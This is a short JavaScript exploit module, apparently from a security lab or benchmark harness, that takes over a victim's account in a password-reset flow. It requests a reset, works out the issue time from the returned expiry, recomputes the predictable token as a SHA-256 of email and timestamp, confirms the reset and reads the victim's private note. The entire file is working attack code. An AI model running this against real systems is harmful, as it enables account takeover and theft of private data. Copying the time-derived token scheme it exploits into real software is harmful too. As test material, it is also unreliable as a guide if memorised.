import { createHash } from 'node:crypto';
import { exploit } from '#attack';

/** The token follows from the address and the moment, and the response says when that was. */
export default exploit(async ({ target, victim: email }) => {
  const attacker = target.client('Attacker');
  const { expires_at } = (await attacker.post('/resets', { email })).expect(202).body;
  const moment = Date.parse(expires_at) - 15 * 60 * 1000;
  const token = createHash('sha256').update(`${email.toLowerCase()} ${moment}`).digest('hex');

  const confirmed = await attacker.post('/resets/confirm', { email, token });
  if (confirmed.status !== 200) return undefined;
  return (await attacker.post('/note/read', { email, key: confirmed.body.key })).expect(200).body.note;
});
